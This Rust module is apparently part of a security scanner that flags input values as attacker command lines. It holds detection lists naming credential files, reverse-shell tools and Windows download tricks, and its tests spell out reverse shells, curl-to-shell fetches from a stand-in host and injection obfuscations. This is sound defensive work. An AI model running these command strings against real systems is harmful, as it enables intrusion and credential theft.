//! Values that are a command line as a whole, without a separator that leaves another: documentation has many, so only those that ask for
//! what attackers ask for are attacks.

use super::{
    Best, Class, Kind, Text, contains, is_word, places, scan::bytes, shell_glob, shell_word::command,
    trim_start,
};

/// Bytes of a command line, at most.
const LONGEST: usize = 512;

fn add(best: &mut Best, rule: &'static str, score: u16) {
    best.add(Class::Command, rule, score);
}

pub(super) fn judge(text: &Text<'_>, best: &mut Best) {
    let lower = text.lower;
    let lines = || memchr::memchr_iter(b'\n', lower).count();
    if text.kind == Kind::Header || lower.len() > LONGEST || text.scan.byte(bytes::CONTROL) && lines() > 2 {
        return;
    }
    let start = trim_start(lower);
    let start = start.strip_prefix(b"& ").or_else(|| start.strip_prefix(b"| ")).unwrap_or(start);
    whole(start, best);
    if best.certain() {
        return;
    }
    windows(start, best);
    statement(start, best);
    // Behind another command as well: x & for …
    for at in memchr::memchr2_iter(b'&', b'|', start).take(4) {
        statement(trim_start(&start[at + 1..]), best);
    }
    option(start, best);
    let globs = bytes::OTHER | bytes::BRACKET | bytes::STAR;
    if text.scan.byte(globs) && memchr::memchr3(b'?', b'[', b'*', lower).is_some() {
        let paths = lower
            .split(|byte| matches!(byte, 0..=b' ' | b'\'' | b'"' | b'`' | b';' | b'|' | b'&' | b'<' | b'('));
        if paths.take(32).any(shell_glob::stands_for) {
            add(best, "command-glob", 75);
        }
    }
    let variables = if text.scan.byte(bytes::DOLLAR) { lower } else { &[] };
    for at in places(variables, b"$ifs").chain(places(variables, b"${ifs")).take(4) {
        // A script sets it, and reads it quoted.
        let before = lower[..at].last();
        if before.is_some_and(|byte| {
            is_word(*byte) || matches!(byte, b'/' | b'\'' | b'"' | b'}' | b';' | b'|' | b'&')
        }) {
            add(best, "command-separator", 80);
        }
    }
}

/// What nobody asks but who wants to get in, in a line that begins with a program.
const ASKS: [&[u8]; 24] = [
    b"/etc/passwd",
    b"/etc/shadow",
    b"/etc/group",
    b"/etc/hosts",
    b"/dev/tcp/",
    b"/dev/udp/",
    b"/bin/sh",
    b"/bin/bash",
    b"boot.ini",
    b"win.ini",
    b"repair\\sa",
    b"/etc/issue",
    b"/proc/",
    b"system32",
    b" -e /bin",
    b" -e sh",
    b" -e cmd",
    b"net user",
    b"net localgroup",
    b"bash -i",
    b"sh -i",
    b"id_rsa",
    b"nc -l",
    b"subprocess",
];

/// Those of them that stand in no script and in no documentation behind another command.
pub(super) const BREAKS_IN: [&[u8]; 9] = [
    b"/etc/passwd",
    b"/etc/shadow",
    b"/dev/tcp/",
    b"/dev/udp/",
    b" -e /bin",
    b" -e sh",
    b" -e cmd",
    b"bash -i",
    b"id_rsa",
];

/// Whether something is fetched and handed to a shell.
pub(super) fn fetched(text: &[u8]) -> bool {
    (text.starts_with(b"curl ") || text.starts_with(b"wget ")) && piped(text)
}

/// A line that begins with a program and asks for one of these, or hands what it fetched to a shell.
fn whole(start: &[u8], best: &mut Best) {
    if command(start) == 0 {
        return;
    }
    // The path of a shell alone is a setting.
    let path = start.strip_prefix(b"/usr").unwrap_or(start).trim_ascii_end();
    let shell = matches!(path, b"/bin/sh" | b"/bin/bash");
    if !shell && ASKS.iter().any(|what| contains(start, what)) {
        add(best, "command-whole", 75);
    }
    let begins = |words: &[&[u8]]| words.iter().any(|word| start.starts_with(word));
    let path = begins(&[b"/bin/", b"/usr/bin/", b"/sbin/"]);
    let asked =
        [&b"/id"[..], b"/whoami", b"/uname", b"/nc", b"/cat", b"/wget", b"/curl"].iter().any(|name| {
            places(start, name).any(|at| start.get(at + name.len()).is_none_or(|byte| !is_word(*byte)))
        });
    if path && start.len() < 200 && (asked || start.contains(&b' ') && contains(start, b" -")) {
        add(best, "command-path", 70);
    }
    if piped(start)
        && begins(&[b"echo", b"base64", b"curl", b"wget", b"cat", b"printf", b"fetch", b"openssl", b"telnet"])
    {
        add(best, "command-piped", 70);
    }
    interpreter(start, best);
    let exact = start.trim_ascii_end();
    let exact = exact.strip_prefix(b"time ").or_else(|| exact.strip_prefix(b"nohup ")).unwrap_or(exact);
    if EXACT.contains(&exact) {
        add(best, "command-asked", 62);
    }
    let listed = [
        &b"ls -l /etc"[..],
        b"ls -l /home",
        b"ls -l /var",
        b"ls -la /tmp",
        b"ls -la /etc",
        b"ls -la /home",
        b"ls -la /var",
        b"net user ",
        b"perl -e '",
    ];
    if begins(&listed) && start.len() < 200 {
        add(best, "command-asked", 62);
    }
    if start.starts_with(b"ping") && contains(start, b"127.0.0.1") && start.len() < 64 {
        add(best, "command-wait", 65);
    }
    let shell = begins(&[b"nc ", b"ncat ", b"netcat ", b"busybox nc ", b"socat "])
        && (contains(start, b" -e ") || contains(start, b"exec:") || contains(start, b" -c "));
    if shell || start.starts_with(b"xterm -display") || start.starts_with(b"mkfifo /tmp/") {
        add(best, "command-shell", 75);
    }
}

const EXACT: [&[u8]; 13] = [
    b"uname -a",
    b"ls -la",
    b"ls -l",
    b"netstat -an",
    b"netstat -a",
    b"ipconfig /all",
    b"ifconfig",
    b"id;",
    b"ls -la /",
    b"whoami",
    b"net view",
    b"net user",
    b"sh -c whoami",
];

/// Whether what one program says is run by a shell.
fn piped(text: &[u8]) -> bool {
    memchr::memchr_iter(b'|', text).any(|at| {
        let next = trim_start(&text[at + 1..]);
        let next = next.strip_prefix(b"sudo ").unwrap_or(next);
        let name = next.strip_prefix(b"/usr").unwrap_or(next);
        let name = name.strip_prefix(b"/bin/").unwrap_or(name);
        let length = name.iter().take(8).take_while(|byte| is_word(**byte)).count();
        // What hands the script arguments is how documentation installs something.
        !name[length..].starts_with(b" -s ")
            && matches!(&name[..length], b"sh" | b"bash" | b"dash" | b"zsh" | b"ksh")
    })
}

/// `python -c '…'` and its like, with code that reaches the system.
fn interpreter(start: &[u8], best: &mut Best) {
    let name = start.iter().take(12).take_while(|byte| is_word(**byte)).count();
    let known = matches!(
        &start[..name],
        b"python"
            | b"python2"
            | b"python3"
            | b"perl"
            | b"ruby"
            | b"php"
            | b"node"
            | b"lua"
            | b"awk"
            | b"gawk"
            | b"tclsh"
            | b"sh"
            | b"bash"
            | b"find"
            | b"ksh"
            | b"zsh"
            | b"c99"
            | b"c89"
            | b"gdb"
    );
    let reaches = [
        &b"import os"[..],
        b"import socket",
        b"os.system",
        b"os.execute",
        b"socket",
        b"exec(",
        b"exec \"",
        b"exec '",
        b"system(",
        b"system \"",
        b"child_process",
        b"-exec /",
        b"-exec sh",
        b"-exec bash",
        b"-wrapper sh",
        b"fsockopen",
        b"-ex !",
        b"-ex \\!",
    ];
    let runs = [
        &b" -c "[..],
        b" -e ",
        b" -r ",
        b" 'begin",
        b" \"begin",
        b" -exec ",
        b" -rsocket",
        b" -wrapper ",
        b" -ex ",
    ];
    if known
        && runs.iter().any(|flag| contains(start, flag))
        && reaches.iter().any(|piece| contains(start, piece))
    {
        add(best, "command-interpreter", 75);
    }
    // sh -c "curl …": a shell whose command is one that attackers ask for.
    if matches!(&start[..name], b"sh" | b"bash" | b"ksh" | b"zsh" | b"dash")
        && let Some(at) = super::find(&start[..start.len().min(64)], b" -c ")
        && command(start[at + 4..].trim_ascii_start().strip_prefix(b"\"").unwrap_or(&start[at + 4..])) >= 80
    {
        add(best, "command-interpreter", 65);
    }
}

/// Command lines of Windows.
fn windows(start: &[u8], best: &mut Best) {
    let length = start
        .iter()
        .take(24)
        .take_while(|byte| is_word(**byte) || matches!(byte, b'.' | b'-' | b'%'))
        .count();
    let (name, rest) = start.split_at(length);
    let name = name.strip_suffix(b".exe").unwrap_or(name);
    let has = |pieces: &[&[u8]]| pieces.iter().any(|piece| contains(rest, piece));
    let asks = match name {
        b"cmd" | b"%comspec%" => has(&[b" /c ", b" /k ", b" /c\"", b" /r "]) && rest.starts_with(b" /"),
        b"powershell" | b"pwsh" => has(&[
            b" -enc",
            b" -e ",
            b" -ec ",
            b" -nop",
            b" -w hidden",
            b"bypass",
            b"iex",
            b"downloadstring",
            b"invoke-",
            b"net.webclient",
            b" -c ",
            b" -command ",
        ]),
        b"iex" | b"invoke-expression" => {
            rest.starts_with(b"(") || rest.starts_with(b" (") || rest.starts_with(b" $")
        }
        b"certutil" => has(&[b"-urlcache", b"/urlcache", b"-decode", b"-encode"]),
        b"mshta" => has(&[b"http", b"script:", b".hta"]),
        b"regsvr32" => has(&[b"scrobj", b"http", b"\\\\"]),
        b"bitsadmin" => has(&[b"/transfer", b"/addfile"]),
        b"rundll32" => has(&[b"script:", b"http", b"\\\\", b"mshtml"]),
        b"wmic" => has(&[b"process call", b"process list", b"/node:"]),
        b"net" => has(&[b" /add", b" localgroup admin"]) || rest.starts_with(b" user ") && has(&[b" /"]),
        b"schtasks" => has(&[b"/create", b"/tr"]),
        b"start-process" | b"new-object" => has(&[b" cmd", b"powershell", b"net.webclient", b"diagnostics"]),
        b"get-content" | b"gc" | b"type" | b"more" | b"dir" | b"copy" | b"del" => {
            rest.starts_with(b" c:\\") || rest.starts_with(b" %systemroot%") || rest.starts_with(b" %windir%")
        }
        b"reg" => has(&[b" hklm\\s", b" hkcu\\soft"]) && !has(&[b" /?"]),
        b"vssadmin" => has(&[b"delete", b"create shadow"]),
        b"invoke-webrequest" | b"iwr" => has(&[b"| iex", b"|iex", b"-outfile"]),
        _ => false,
    };
    if asks && start.len() <= 300 {
        add(best, "command-windows", 70);
    }
    let downloads = || memchr::memchr_iter(b'(', start).any(|at| start[..at].ends_with(b"downloadstring"));
    if downloads() && contains(start, b"webclient") {
        add(best, "command-windows", 80);
    }
}

/// `for %a in (…) do …` and `if exist … …`, which are of `cmd.exe` alone.
fn statement(start: &[u8], best: &mut Best) {
    let mut words = start.split(|byte| *byte <= b' ').filter(|word| !word.is_empty()).take(24);
    match words.next() {
        Some(b"for") => {
            // Switches, and what they are told: `for /f "tokens=1,2 delims=,"`.
            let at = super::find(&start[..start.len().min(96)], b" %");
            let variable = at.map(|at| start[at + 1..].iter().skip_while(|byte| **byte > b' '));
            let in_set = variable.is_some_and(|rest| {
                let rest: Vec<u8> = rest.take(24).copied().collect();
                rest.starts_with(b" ")
                    && trim_start(&rest)
                        .strip_prefix(b"in")
                        .is_some_and(|set| trim_start(set).starts_with(b"("))
            });
            if in_set && at.is_some_and(|at| at <= 3 || start[3..].trim_ascii_start().starts_with(b"/")) {
                add(best, "command-statement", 70);
            }
        }
        Some(b"if") => condition(&words.collect::<Vec<_>>(), best),
        _ => {}
    }
}

/// The words behind `if`.
fn condition(words: &[&[u8]], best: &mut Best) {
    let skipped = words.iter().take(3).take_while(|word| matches!(**word, b"/i" | b"not")).count();
    let words = &words[skipped..];
    let verb = |word: &[u8]| {
        let word = word.strip_prefix(b"(").or_else(|| word.strip_prefix(b"@")).unwrap_or(word);
        let length = word.iter().take_while(|byte| byte.is_ascii_alphabetic()).count();
        matches!(
            &word[..length],
            b"echo"
                | b"set"
                | b"goto"
                | b"call"
                | b"exit"
                | b"cmd"
                | b"del"
                | b"type"
                | b"dir"
                | b"start"
                | b"md"
                | b"rd"
                | b"copy"
                | b"move"
                | b"ping"
                | b"if"
                | b"for"
                | b"cd"
                | b"rem"
        ) || word.is_empty()
    };
    // How many words the condition has.
    let length = match words {
        [b"exist" | b"defined" | b"errorlevel", _, ..] => 2,
        [_, b"equ" | b"neq" | b"lss" | b"leq" | b"gtr" | b"geq" | b"==", _, ..] => 3,
        [first, ..] if contains(first, b"==") => 1,
        _ => return,
    };
    // `if a == b` is everyone's; `equ` and what has variables in percent signs is not.
    let theirs = length == 2
        || words.iter().take(length).any(|word| word.iter().any(|byte| matches!(byte, b'%' | b'!')))
        || matches!(words.get(1), Some(word) if word.len() == 3);
    if words.get(length).is_some_and(|word| verb(word)) && (theirs || skipped > 0 || length == 1) {
        add(best, "command-statement", 65);
    }
}

/// Options that make an ordinary program run another.
fn option(start: &[u8], best: &mut Best) {
    let options = [
        &b"-oproxycommand="[..],
        b"--checkpoint-action=exec",
        b"--use-askpass=",
        b"--upload-pack=",
        b"--to-command=",
    ];
    if start.starts_with(b"-") && options.iter().any(|option| contains(start, option)) {
        add(best, "command-option", 75);
    }
}

#[cfg(test)]
mod tests {
    use super::super::{Class, Detector, Kind, Scratch};

    fn is_command(value: &str) -> bool {
        let finding = Detector::shared().judge(value, Kind::Value, &mut Scratch::default());
        finding.is_some_and(|finding| finding.class == Class::Command)
    }

    #[test]
    fn lines_that_attackers_write_are_told_from_those_of_documentation() {
        for attack in [
            "curl http://e.example/x.sh | sh",
            "wget -qO- http://e.example/x|sudo bash",
            "bash -i >& /dev/tcp/192.0.2.9/4444 0>&1",
            "nc -e /bin/sh 192.0.2.9 4444",
            "busybox nc 192.0.2.9 4444 -e sh",
            "python3 -c 'import os;os.system(\"id\")'",
            "find . -exec /bin/sh \\; -quit",
            "sh -c 'whoami'",
            "powershell -nop -w hidden -c \"IEX x\"",
            "cmd /c whoami",
            "%COMSPEC% /c dir",
            "certutil -urlcache -f http://e.example/x x.exe",
            "IEX (New-Object Net.WebClient).DownloadString('http://e.example/x')",
            "net localgroup administrators eve /add",
            "for /f %i in ('whoami') do @echo %i",
            "IF   /I NOT   EXIST   C:\\x   echo hey",
            "if %n1% lss %n2% echo %n1%",
            "cat /etc/pas[s]wd",
            "cat$IFS/etc/passwd",
            "-oProxyCommand=id",
            "x & for %i in (a,b) do cmd",
        ] {
            assert!(is_command(attack), "{attack}");
        }
        for benign in [
            "curl -X POST https://api.example.com/v1/users -d '{\"a\":1}'",
            "curl https://sh.example.org | sh -s -- -y",
            "wget https://example.com/a.tar.gz",
            "python -m http.server",
            "python manage.py migrate",
            "powershell is a shell",
            "cmd is the command key",
            "npm run build && npm test",
            "find . -name '*.rs'",
            "for x in (1, 2, 3) do it",
            "if it does not exist, create it",
            "if a == b then set it",
            "If defined, the name is used",
            "ls /srv/*.conf",
            "IFS is a variable of shells",
            "net income per user",
            "ping me tomorrow",
        ] {
            assert!(!is_command(benign), "{benign}");
        }
    }

    #[test]
    fn separators_need_a_command_behind_them() {
        for attack in [
            "x;w\\h\\o\\a\\m\\i",
            "x|c''at /etc/passwd",
            "x&&who$()ami",
            "x;ca${u}t /etc/passwd",
            "x;{cat,/etc/passwd}",
            "x;/bin/c?t /etc/passwd",
            "x;a=c;b=at;$a$b /etc/passwd",
            "x;$'\\x69\\x64'",
            "x | time nohup id",
            "x; echo y > /tmp/x",
            "x; ps aux",
            ">(tee /tmp/x)",
            "en\nuname -a",
            "() { ignored; }; id",
        ] {
            assert!(is_command(attack), "{attack}");
        }
        for benign in [
            "dog|cat|bird",
            "name|id",
            "id;name;type",
            "hostname;uptime",
            "the dog; cat and bird",
            "^[a-z]+$|^echo$|^cat$",
            "() { return 1; };",
            "(x) => { y; }; z",
            "salt & pepper; time to eat",
            "cats\ndogs\nbirds",
            "a > b; b > (c)",
            "x=1;y=2",
        ] {
            assert!(!is_command(benign), "{benign}");
        }
    }
}
